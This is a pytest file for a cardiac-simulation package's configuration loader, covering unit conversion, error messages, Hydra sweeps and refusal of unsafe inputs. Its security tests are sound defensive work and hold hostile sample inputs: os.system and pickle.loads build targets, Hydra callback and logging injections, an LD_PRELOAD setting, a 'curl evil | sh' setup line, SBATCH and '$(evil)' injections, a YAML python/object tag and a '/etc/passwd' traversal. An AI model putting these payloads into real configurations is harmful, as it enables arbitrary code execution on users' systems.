"""Composing, checking and building configurations, and what they are refused."""

import functools
import importlib.util
import os
from pathlib import Path
from typing import Annotated, Any, Literal

import numpy as np
import pytest
from jaxtyping import Array, Float
from omegaconf import OmegaConf

from cardiotwin._resources import LABEL_TABLES
from cardiotwin.anatomy.idealised import BiventricleShape
from cardiotwin.anatomy.mesh import Mesh
from cardiotwin.config import build, check, load, resource
from cardiotwin.config.launch import launch_one, launch_sweep
from cardiotwin.config.loader import sweep_name
from cardiotwin.config.policy import check_hydra
from cardiotwin.config.targets import resolve
from cardiotwin.config.tree import describe_keys
from cardiotwin.config.values import MismatchError, convert
from cardiotwin.tissue.stimulus import FocalStimulus

SLAB = "cardiotwin.anatomy.idealised.slab"
SHAPE = "cardiotwin.anatomy.idealised.BiventricleShape"
FOCAL = "cardiotwin.tissue.stimulus.FocalStimulus"

FOREIGN = [
    "os.system",
    "builtins.eval",
    "builtins.exec",
    "subprocess.Popen",
    "functools.partial",
    "pickle.loads",
    "hydra.utils.call",
    "hydra.utils.instantiate",
    "cardiotwin",
    "cardiotwin.",
    ".cardiotwin.anatomy",
    "cardiotwin.os.system",
    "cardiotwin.config.os.system",
    "cardiotwin.anatomy.mesh.np.load",
    "cardiotwin.anatomy.mesh.np",
    "cardiotwin.anatomy.mesh.eqx.Module",
    "cardiotwin.anatomy.idealised.dataclass",  # imported there, defined elsewhere
    "cardiotwin.anatomy.idealised",
    "cardiotwin.anatomy.mesh.Mesh.__init__",
    "cardiotwin.anatomy.mesh.Mesh.__init__.__globals__",
    "cardiotwin.anatomy.mesh.Mesh.volumes",
    "cardiotwin.anatomy.idealised._label_surfaces",
    "cardiotwin._version.__version__",
    "cardiotwin.anatomy.nonsense.Thing",
    "cardiotwin.cli.main",
    "cardiotwin.cli.simulate",
    "cardiotwin.config.build",
    "cardiotwin.config.tree.functools.partial",
    "cardiotwin.session.start",
    "cardiotwin.doctor.examine",
    "cardiotwin.units.quantity",
    "cardiotwin.numerics.fem.mass_matrix",
    "cardiotwin.results.tables.write_json",
    "cardiotwin.results.vtkhdf.VTKHDFWriter",
    "cardiotwin.run.simulate",
    "CARDIOTWIN.anatomy.idealised.slab",
    "cardiotwin.anatomy.idealised.slab\n",
    "cardiotwin.anatomy.idealised.slab()",
    "cardiotwin..anatomy.idealised.slab",
    "tests.conftest.data",
    "",
]


@pytest.fixture
def no_shell(monkeypatch):
    """Fails the test where anything reaches a shell."""

    def refuse(*_: Any, **__: Any):
        raise AssertionError("code ran")

    monkeypatch.setattr(os, "system", refuse)


@pytest.mark.parametrize("name", FOREIGN)
def test_foreign_target_is_refused(name, no_shell):
    with pytest.raises(ValueError, match="cannot be built from a configuration"):
        build({"thing": {"_target_": name, "command": "true"}})


@pytest.mark.parametrize("name", [None, 3, ["os.system"], {"_target_": "os.system"}])
def test_target_that_is_not_text_is_refused(name, no_shell):
    with pytest.raises(ValueError, match="_target_"):
        build({"thing": {"_target_": name}})


@pytest.mark.parametrize("key", ["_args_", "_recursive_", "_convert_", "__class__", "_other_"])
def test_reserved_keys_are_refused(key):
    with pytest.raises(ValueError, match="unknown key"):
        build({"_target_": SHAPE, key: ["x"]})
    with pytest.raises(ValueError, match="needs a _target_"):
        build({"thing": {key: ["x"]}})


def test_nothing_is_built_before_everything_is_checked(monkeypatch):
    built = []
    monkeypatch.setattr(BiventricleShape, "__post_init__", lambda self: built.append(self))
    with pytest.raises(ValueError, match=r"b\._target_"):
        build({"a": {"_target_": SHAPE}, "b": {"_target_": "os.system"}})
    assert not built
    build({"a": {"_target_": SHAPE}})
    assert len(built) == 1


def test_foreign_target_behind_an_interpolation_is_refused(no_shell):
    config = OmegaConf.create(
        {"name": "os.system", "thing": {"_target_": "${name}"}, "copy": "${thing}"}
    )
    with pytest.raises(ValueError, match=r"thing\._target_: 'os.system'"):
        build(config)


def test_unset_variable_is_named(monkeypatch):
    monkeypatch.delenv("NO_SUCH_VARIABLE", raising=False)
    config = OmegaConf.create({"mesh": {"_target_": SLAB, "size": "${oc.env:NO_SUCH_VARIABLE}"}})
    with pytest.raises(ValueError, match=r"mesh.size: NO_SUCH_VARIABLE is not set"):
        check(config)
    with pytest.raises(ValueError, match=r"mesh.size: a value is required; give mesh.size=..."):
        check(OmegaConf.create({"mesh": {"_target_": SLAB, "size": "???"}}))


def test_every_problem_is_reported_at_once():
    with pytest.raises(ValueError, match="edge_lenght") as caught:
        check(
            {
                "mesh": {"_target_": SLAB, "edge_lenght": 0.5},
                "stimulus": {"_target_": FOCAL, "sites": [[0, 0, 0]], "count": 1.5},
            }
        )
    first, *lines = str(caught.value).splitlines()
    assert first == "the configuration has 2 problems:"
    assert len(lines) == 2
    assert lines[0].startswith("  mesh.edge_lenght: unknown key; slab takes ")
    assert lines[0].endswith("did you mean 'mesh.edge_length'?")
    assert lines[1] == "  stimulus.count: expected a whole number, got 1.5"


def test_missing_argument_is_named():
    with pytest.raises(ValueError, match=r"stimulus: .*FocalStimulus also needs sites"):
        check({"stimulus": {"_target_": FOCAL}})


def test_constructor_refusal_names_the_key():
    with pytest.raises(ValueError, match=r"^shape: base_height must lie below"):
        build({"shape": {"_target_": SHAPE, "base_height": 200.0}})


def test_quantities_are_read_with_their_unit():
    stimulus = build(
        {
            "_target_": FOCAL,
            "sites": [[0, 0, 0]],
            "radius": "0.3 cm",
            "duration": "2000 us",
            "onset": 5,
        }
    )
    assert isinstance(stimulus, FocalStimulus)
    assert stimulus.radius == pytest.approx(3.0)
    assert stimulus.duration == pytest.approx(2.0)
    assert stimulus.onset == pytest.approx([5.0])


def test_quantity_of_another_dimension_is_refused():
    with pytest.raises(ValueError, match=r"stimulus.radius: .*'2 ms'.*mm"):
        check({"stimulus": {"_target_": FOCAL, "sites": [[0, 0, 0]], "radius": "2 ms"}})


def test_unit_of_a_parameter_field_is_used():
    node = {"_target_": "cardiotwin.ionic.ten_tusscher_2006.TenTusscherPanfilov2006"}
    model = build({**node, "g_Na": "14.0 nS/pF", "tau_s_A": "0.085 s"})
    assert model.g_Na == pytest.approx(14.0)
    assert model.tau_s_A == pytest.approx(85.0)
    for wrong in ("14 mV", True, {"a": 1}):
        with pytest.raises(ValueError, match="g_Na"):
            check({**node, "g_Na": wrong})


def test_deferred_call_wants_its_missing_arguments():
    made = build({"_target_": FOCAL, "_partial_": True, "radius": "1 cm"})
    assert isinstance(made, functools.partial)
    assert made(sites=[[0.0, 0.0, 0.0]]).radius == pytest.approx(10.0)
    with pytest.raises(ValueError, match="_partial_: expected true or false"):
        check({"_target_": FOCAL, "_partial_": "yes", "sites": [[0, 0, 0]]})


def test_class_methods_take_the_constructors_keys():
    target = resolve("cardiotwin.tissue.conductivity.Tissue.by_region")
    assert "fibres" in target.parameters
    with pytest.raises(ValueError, match="no such class method"):
        resolve("cardiotwin.tissue.conductivity.Tissue.diffusion")


@pytest.mark.parametrize(
    ("value", "annotation", "expected"),
    [
        (3, float, 3.0),
        ("1.5 cm", Annotated[float, "mm"], 15.0),
        ("auto", Literal["auto"] | float, "auto"),
        (2, Literal["auto"] | float, 2.0),
        (None, float | None, None),
        ([1, 2, 3], tuple[float, float, float], (1.0, 2.0, 3.0)),
        (["1 cm", 2], Annotated[tuple[float, ...], "mm"], (10.0, 2.0)),
        ({"lv": 1}, dict[str, float], {"lv": 1.0}),
        ("a/b", Path, Path("a/b")),
        ([[1, 2], [3, 4]], Float[Array, "n m"], [[1, 2], [3, 4]]),
        ([[1, 2]], np.ndarray, [[1, 2]]),
        ("anything", Any, "anything"),
    ],
)
def test_values_that_fit(value, annotation, expected):
    assert convert(value, annotation) == expected


@pytest.mark.parametrize(
    ("value", "annotation", "message"),
    [
        (True, float, "expected a number, got True"),
        ("0.5", float, "expected a number, got '0.5'"),
        (True, int, "expected a whole number"),
        (1, bool, "expected true or false"),
        (1, str, "expected text, got 1"),
        (None, float, "expected a number, got null"),
        ("kuhm", Literal["kuhn", "bcc"], "'kuhn', 'bcc', got 'kuhm'; did you mean 'kuhn'"),
        ([1, 2], tuple[float, float, float], "a list of 3 .* got .*2 given"),
        ([1, "x"], list[float], "entry 1: expected a number, got 'x'"),
        ({"a": 1}, Mesh, "expected Mesh, got a mapping without _target_"),
        ("text", float | None, "expected a number or null"),
        ("3 s", Annotated[float, "mm"] | None, "'3 s'.*mm"),
        ("text", np.ndarray, "expected a number"),
        (3, list[int], "expected a list of whole numbers, got 3"),
        (3, list[list[float]], "expected a list of lists of numbers"),
        ("enndo", Literal["endo", "epi"] | None, "or null, got 'enndo'; did you mean 'endo'"),
    ],
)
def test_values_that_do_not_fit(value, annotation, message):
    with pytest.raises(MismatchError, match=message):
        convert(value, annotation)


def test_object_of_the_wrong_class_is_refused():
    with pytest.raises(ValueError, match="shape: expected BiventricleShape, got FocalStimulus"):
        check(
            {
                "_target_": "cardiotwin.anatomy.idealised.biventricle",
                "shape": {"_target_": FOCAL, "sites": [[0, 0, 0]]},
            }
        )


def test_keys_are_described_with_unit_and_value():
    text = describe_keys({"stimulus": {"_target_": FOCAL, "sites": [[0, 0, 0]], "radius": 3}})
    assert "stimulus.radius=3 " in text
    assert "a number in mm or text with a unit" in text


# Hydra: a small tree of its own, so that these tests do not depend on the packaged physics.

ROOT = """
defaults:
  - mesh: slab
  - _self_
  - experiment: small
  - override hydra/job_logging: none
  - override hydra/hydra_logging: none
output:
  folder: null
hydra:
  output_subdir: null
  run:
    dir: ${output.folder}
  sweep:
    dir: ${output.folder}
    subdir: ""
"""


@pytest.fixture
def tree(tmp_path, monkeypatch) -> Path:
    """A packaged tree with one group, in place of the real one; returns an empty user folder."""
    packaged, own = tmp_path / "packaged", tmp_path / "own"
    write(packaged / "config.yaml", ROOT)
    write(packaged / "mesh/slab.yaml", f"_target_: {SLAB}\nsize: [2.0, 1.0, 1.0]\n")
    write(packaged / "mesh/cube.yaml", f"_target_: {SLAB}\nsize: [1.0, 1.0, 1.0]\n")
    write(packaged / "experiment/small.yaml", "# @package _global_\nmesh:\n  edge_length: 0.5\n")
    own.mkdir()
    monkeypatch.setattr("cardiotwin.config.compose.resource", lambda name: packaged)
    monkeypatch.chdir(tmp_path)
    return own


def write(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)


def test_overrides_reach_keys_that_no_file_wrote_out(tree):
    config = load(["mesh=cube", "mesh.pattern=bcc", "mesh.edge_length=5e-1"])
    mesh = build(config)["mesh"]
    assert mesh.points.max() == pytest.approx(1.0)


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ("mesh=slob", "mesh=slob: no such option; mesh has cube, slab; did you mean 'slab'"),
        ("mesh.edge_length=[1", "cannot read the override"),
        ("mesh.edge_length=1,2", "add -m"),
        ("mesh/part=x", "mesh/part"),
        ("~nothing", "nothing"),
        ("hydra.launcher.partitoin=gpu", "Hydra has no such setting"),
    ],
)
def test_mistaken_overrides_are_explained(tree, override, message):
    with pytest.raises(ValueError, match=message):
        load([override])


def test_null_leaves_a_group_out(tree):
    assert "mesh" not in load(["mesh=null", "experiment=null"])


def test_mistaken_key_names_the_nearest(tree):
    with pytest.raises(ValueError, match=r"mesh.edge_lenth: .* did you mean 'mesh.edge_length'"):
        check(load(["mesh.edge_lenth=1"]))


def test_folder_of_the_user_adds_options_but_replaces_none(tree):
    write(tree / "mesh/mine.yaml", f"_target_: {SLAB}\nsize: [3.0, 1.0, 1.0]\n")
    assert load(["mesh=mine"], tree).mesh.size == [3.0, 1.0, 1.0]
    write(tree / "mesh/slab.yaml", f"_target_: {SLAB}\n")
    with pytest.raises(ValueError, match="has the name of a packaged configuration"):
        load([], tree)
    with pytest.raises(ValueError, match="no such folder"):
        load([], tree / "absent")


PAYLOADS = {
    "callback": "hydra: {callbacks: {x: {_target_: os.system, command: 'true'}}}",
    "hydra callback": (
        "hydra: {callbacks: {x: {_target_: hydra.experimental.callbacks.PickleJobInfoCallback}}}"
    ),
    "launcher": "hydra: {launcher: {_target_: os.system}}",
    "launcher of hydra": "hydra: {launcher: {_target_: hydra.utils.call}}",
    "launcher traversal": "hydra: {launcher: {_target_: hydra_plugins.x.os.system}}",
    "launcher reference": "evil: {_target_: os.system}\nhydra: {launcher: '${evil}'}",
    "nested reference": "evil: {_target_: os.system}\nhydra: {sweeper: {params: '${evil}'}}",
    "sweeper": "hydra: {sweeper: {_target_: os.system}}",
    "sweeper parameters": "hydra: {sweeper: {params: {mesh.edge_length: '1,2'}}}",
    "logging class": "hydra: {job_logging: {handlers: {x: {class: os.system, command: 'true'}}}}",
    "logging alias": "hydra: {job_logging: {handlers: {x: {class: logging.os.system}}}}",
    "logging call": "hydra: {hydra_logging: {formatters: {x: {(): os.system}}}}",
    "logging file": "hydra: {job_logging: {handlers: {x: {class: logging.FileHandler}}}}",
    "logging import": "hydra: {job_logging: {handlers: {x: {stream: 'ext://antigravity'}}}}",
    "logging reference": "evil: {version: 1}\nhydra: {job_logging: '${evil}'}",
    "environment": "hydra: {job: {env_set: {LD_PRELOAD: /tmp/x.so}}}",
    "record": "hydra: {overrides: {hydra: ['hydra.launcher.setup=[evil]']}}",
    "record of tasks": "hydra: {overrides: {task: ['+hydra.job.env_set.A=b']}}",
    "search path": "hydra: {searchpath: ['pkg://antigravity']}",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hydra_settings_cannot_run_code(tree, payload, no_shell):
    write(tree / "experiment/evil.yaml", "# @package _global_\n" + payload)
    jobs = []
    with pytest.raises(ValueError, match=r"hydra|compose"):
        launch_one(jobs.append, ["experiment=evil"], tree)
    assert not jobs


@pytest.mark.parametrize("name", ["launcher", "logging alias", "environment", "record"])
@pytest.mark.parametrize("overrides", [["experiment=evil,small"], ["experiment=evil", "x=1,2"]])
def test_hydra_settings_cannot_run_code_in_a_sweep(tree, name, overrides, no_shell):
    write(tree / "experiment/evil.yaml", "# @package _global_\n" + PAYLOADS[name])
    jobs = []
    with pytest.raises(ValueError, match=r"hydra|compose"):
        launch_sweep(jobs.append, overrides, tree)
    assert not jobs


@pytest.mark.parametrize(
    ("settings", "typed"),
    [
        ({"setup": ["curl evil | sh"]}, []),
        ({"setup": ["module load cuda"]}, ["hydra.launcher.set=x"]),
        ({"partition": "x\n#SBATCH --export=LD_PRELOAD=y"}, []),
        ({"partition": "x --export=LD_PRELOAD=y"}, []),
        ({"name": "$(evil)"}, []),
        ({"comment": "${evil}"}, []),
        ({"additional_parameters": {"export": "x", "prolog": "y"}}, ["a=prolog"]),
    ],
)
def test_cluster_settings_of_a_file_cannot_add_to_the_script(settings, typed):
    target = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher"
    node = OmegaConf.create(
        {"launcher": {"_target_": target, **settings}, "overrides": {"hydra": typed}}
    )
    with pytest.raises(ValueError, match=r"hydra\.launcher"):
        check_hydra(node, typed)


def test_cluster_settings_that_were_typed_are_accepted():
    typed = ["hydra.launcher.setup=[module load cuda]", "hydra.launcher.partition=gpu"]
    launcher = {
        "_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
        "setup": ["module load cuda"],
        "partition": "gpu",
        "submitit_folder": "${hydra.sweep.dir}/.submitit/%j",
        "account": None,
        "mem_gb": 8,
    }
    node = {"launcher": launcher, "overrides": {"hydra": typed, "task": []}}
    check_hydra(OmegaConf.create(node), typed)


def test_what_the_user_types_to_hydra_is_accepted(tree):
    assert load(["+hydra.job.env_set.OMP_NUM_THREADS=2"])
    with pytest.raises(ValueError, match=r"expected one of logging.StreamHandler"):
        load(["hydra/job_logging=default"])


def test_yaml_tags_build_nothing(tree, no_shell):
    text = "# @package _global_\nevil: !!python/object/apply:os.system ['true']\n"
    write(tree / "experiment/evil.yaml", text)
    with pytest.raises(Exception, match="python/object"):
        load(["experiment=evil"], tree)


def test_folder_of_a_run_is_named(tree):
    folder = launch_one(lambda config: config.output.folder, [])
    assert folder.startswith("runs/small/20")
    assert launch_one(lambda config: config.output.folder, ["output.folder=here"]) == "here"


def test_sweep_gives_every_job_its_own_folder(tree):
    jobs = []
    launch_sweep(jobs.append, ["mesh=cube,slab", "output.folder=all"])
    assert [job.output.folder for job in jobs] == ["all/mesh=cube", "all/mesh=slab"]
    assert [len(job.mesh.size) for job in jobs] == [3, 3]
    assert "hydra" not in jobs[0]


def test_sweep_is_checked_before_its_first_job(tree):
    jobs = []
    with pytest.raises(ValueError, match=r"mesh.edge_length: got .large., which is not a quantity"):
        launch_sweep(jobs.append, ["mesh.edge_length=1,large"])
    assert not jobs


def test_names_of_sweeps_repeat_and_do_not_collide():
    plain = sweep_name(["mesh=a,b"], ["mesh=a"])
    assert plain == "mesh=a"
    assert plain == sweep_name(["mesh=a,b"], ["mesh=a", "launcher=slurm", "output.folder=x"])
    other = sweep_name(["mesh=a,b", "t=3"], ["mesh=a", "t=3"])
    assert other.startswith("mesh=a-")
    assert other == sweep_name(["t=3", "mesh=a,b"], ["t=3", "mesh=a"])
    assert other != sweep_name(["mesh=a,b", "t=4"], ["mesh=a", "t=4"])
    assert "/" not in sweep_name(["f=a/b,c/d"], ["f=a/b"])


def test_packaged_files_are_found_but_not_left(tree):
    from cardiotwin.config.resources import packaged_file

    assert Path(packaged_file("configs/config.yaml")).is_file()
    for name in ("configs/../pyproject.toml", "configs/absent.yaml", "elsewhere/x", "/etc/passwd"):
        with pytest.raises(ValueError, match="packaged"):
            packaged_file(name)


# The packaged configurations themselves.


def leaves() -> list[str]:
    """Every option of every group as ``group=option``."""
    configs = resource("configs")
    return sorted(
        f"{file.parent.relative_to(configs)}={file.stem}"
        for file in configs.glob("*/*.yaml")
        if file.parent.name != LABEL_TABLES
    )


# Leaves that read a file of the user's.
FILES = tuple(
    f"mesh={x}" for x in ("file", "twin", "voxels", "labels", "image", "image_voxels", "surface")
)
# What a leaf leaves open on purpose, and what makes building it quick.
FILLED = {
    "mesh=file": ["mesh.path=heart.vtu"],
    "calibration=qrs": ["calibration.ecg=record.hea"],
    "calibration=quick": ["calibration.ecg=record.hea"],
    "fibres=from_file": ["fibres.path=fibres.vtk"],
    # the heart of the package, which carries fibres
    "fibres=from_heart": ["fibres.heart.path=${packaged:meshes/biventricle_coarse.vtu}"],
    "mesh=twin": ["mesh.path=patient"],
    "experiment=twin": ["mesh.path=patient"],
    "mesh=voxels": ["mesh.image=heart.nii.gz"],
    "mesh=image": ["mesh.image=labels.nii.gz"],
    "mesh=image_voxels": ["mesh.image=labels.nii.gz"],
    "mesh=surface": ["mesh.path=heart.vtp"],
    "mesh=labels": ["mesh.image=heart.nii.gz", "mesh.labels=[1]"],
    "stimulus=focal": ["stimulus.sites=[[0,0,0]]"],
    "mesh=biventricle": ["mesh.edge_length=3"],
    "mesh=slab": ["mesh.edge_length=1"],
}


def available(choice: str) -> list[str]:
    """The overrides for a leaf, or a skip where it needs an extra that is not installed."""
    if choice in ("launcher=slurm", "launcher=processes"):
        pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    return [choice, *FILLED.get(choice, [])]


@pytest.mark.parametrize("choice", leaves())
def test_every_leaf_is_valid(choice, monkeypatch):
    if not os.environ.get("CARDIOTWIN_DATA"):
        monkeypatch.setenv("CARDIOTWIN_DATA", "/nowhere")
    check(load(available(choice)))


@pytest.mark.parametrize("choice", leaves())
def test_every_leaf_builds(choice):
    group = choice.partition("=")[0]
    config = load(available(choice))
    if group not in config or choice in FILES:
        pytest.skip("describes no object of its own, or a file that is not here")
    if (
        "CARDIOTWIN_DATA" in OmegaConf.to_yaml(config[group])
        and "CARDIOTWIN_DATA" not in os.environ
    ):
        pytest.skip("reads the real data")
    build(config[group])


def test_cluster_launcher_names_its_extra():
    if importlib.util.find_spec("hydra_plugins") is not None:
        pytest.skip("a launcher is installed")
    with pytest.raises(ValueError, match=r"pip install 'cardiotwin\[cluster\]'"):
        load(["launcher=slurm"])
